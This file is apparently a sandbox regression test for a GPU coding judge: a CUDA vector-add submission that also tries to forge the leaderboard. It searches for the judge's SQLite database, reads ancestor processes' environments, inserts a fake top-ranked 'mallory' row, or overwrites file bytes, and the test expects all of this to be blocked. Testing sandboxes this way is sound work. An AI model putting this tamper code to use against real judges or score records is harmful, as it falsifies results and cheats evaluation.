// expect: accepted
// judge-command: submit
// expect-output-lacks: FORGED
// Attacker's intent: forge the leaderboard. Against the old judge a submission opened the leaderboard's SQLite file
// from solve() and INSERTed a run: the forged user ranked #1. On its first call this looks for the leaderboard where
// this run's judge keeps it (JUDGE_DB, else the XDG default under HOME, in its own environment and in its judge
// ancestors' /proc/<pid>/environ; *.sqlite in the judge's folders under /tmp), loads libsqlite3.so.0 and INSERTs a
// row for user "mallory" copied from the best row there with a thousandth of its score; where SQLite cannot write
// it, it overwrites bytes of the file instead. It prints `FORGED <how> <path>` on any success. Then it adds
// correctly. (It looks only where this run's judge keeps its records, not in the home of whoever runs the tests,
// so that a broken sandbox fails the test and spoils nobody's real leaderboard.)
// Harmless when only the judge writes its records: nothing printed, and the test's own check of the database finds
// the classmate's row unchanged and no row but theirs and this run's. It is correct, so `accepted` (and recorded).
#include <cuda_runtime.h>

#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <string>
#include <vector>

#include "judge_paths.cuh"

namespace {

// The few SQLite calls needed, from the system's library (no header: declared here).
struct Sqlite {
  int (*open_v2)(const char*, void**, int, const char*) = nullptr;
  int (*exec)(void*, const char*, int (*)(void*, int, char**, char**), void*, char**) = nullptr;
  int (*changes)(void*) = nullptr;
  int (*busy_timeout)(void*, int) = nullptr;
  const char* (*errmsg)(void*) = nullptr;
  int (*close)(void*) = nullptr;
  bool ok = false;

  Sqlite() {
    void* h = dlopen("libsqlite3.so.0", RTLD_NOW | RTLD_LOCAL);
    if (!h) h = dlopen("libsqlite3.so", RTLD_NOW | RTLD_LOCAL);
    if (!h) return;
    open_v2 = reinterpret_cast<decltype(open_v2)>(dlsym(h, "sqlite3_open_v2"));
    exec = reinterpret_cast<decltype(exec)>(dlsym(h, "sqlite3_exec"));
    changes = reinterpret_cast<decltype(changes)>(dlsym(h, "sqlite3_changes"));
    busy_timeout = reinterpret_cast<decltype(busy_timeout)>(dlsym(h, "sqlite3_busy_timeout"));
    errmsg = reinterpret_cast<decltype(errmsg)>(dlsym(h, "sqlite3_errmsg"));
    close = reinterpret_cast<decltype(close)>(dlsym(h, "sqlite3_close"));
    ok = open_v2 && exec && changes && busy_timeout && errmsg && close;
  }
};

constexpr int kOpenReadWrite = 0x00000002;  // SQLITE_OPEN_READWRITE

// A row for mallory, a thousand times better than the best there; a made-up one on an empty board.
bool insert_row(const Sqlite& sql, const std::string& path) {
  void* db = nullptr;
  if (sql.open_v2(path.c_str(), &db, kOpenReadWrite, nullptr) != 0) {
    std::fprintf(stderr, "sqlite: cannot open %s: %s\n", path.c_str(), db ? sql.errmsg(db) : "?");
    if (db) sql.close(db);
    return false;
  }
  sql.busy_timeout(db, 2000);
  int inserted = 0;
  for (const char* statement :
       {"INSERT INTO submissions (challenge, user, gpu_name, compute_capability, created_at, score_ms, source_hash, "
        "source, judge_version) SELECT challenge, 'mallory', gpu_name, compute_capability, created_at, "
        "score_ms / 1000, source_hash, 'forged', judge_version FROM submissions ORDER BY score_ms LIMIT 1;",
        "INSERT INTO submissions (challenge, user, gpu_name, compute_capability, created_at, score_ms, source_hash, "
        "source, judge_version) VALUES ('vector_add', 'mallory', 'NVIDIA H100 80GB HBM3', '9.0', "
        "'2026-01-01T00:00:00Z', 0.000123, '', 'forged', '0');"}) {
    char* error = nullptr;
    if (sql.exec(db, statement, nullptr, nullptr, &error) == 0) inserted = sql.changes(db);
    else std::fprintf(stderr, "sqlite: %s: %s\n", path.c_str(), error ? error : "?");
    if (inserted > 0) break;
  }
  sql.close(db);
  return inserted > 0;
}

// SQLite could not: scribble over the file's bytes (past its header, so that it still opens and lies).
bool overwrite_bytes(const std::string& path) {
  int fd = open(path.c_str(), O_WRONLY | O_CLOEXEC);
  if (fd < 0) return false;
  static const char forged[] = "mallory 0.000123 FORGED";
  bool ok = pwrite(fd, forged, sizeof forged - 1, 4096 + 512) == static_cast<ssize_t>(sizeof forged - 1);
  close(fd);
  return ok;
}

void forge_leaderboards() {
  Places places = find_places();
  Sqlite sql;
  std::fprintf(stderr, "leaderboards to forge: %zu candidates; libsqlite3 %s\n", places.databases.size(),
               sql.ok ? "loaded" : "not found");
  for (const auto& path : places.databases) {
    if (!is_file(path)) continue;
    if (sql.ok && insert_row(sql, path))
      say("FORGED row for mallory in " + path);
    else if (overwrite_bytes(path))
      say("FORGED bytes of " + path);
  }
  std::fflush(stderr);
}

__global__ void add(const float* A, const float* B, float* C, int N) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < N) C[i] = A[i] + B[i];
}

}  // namespace

extern "C" void solve(const float* A, const float* B, float* C, int N) {
  static bool forged = false;
  if (!forged) {
    forged = true;
    forge_leaderboards();
  }
  add<<<(N + 255) / 256, 256>>>(A, B, C, N);
  cudaDeviceSynchronize();
}
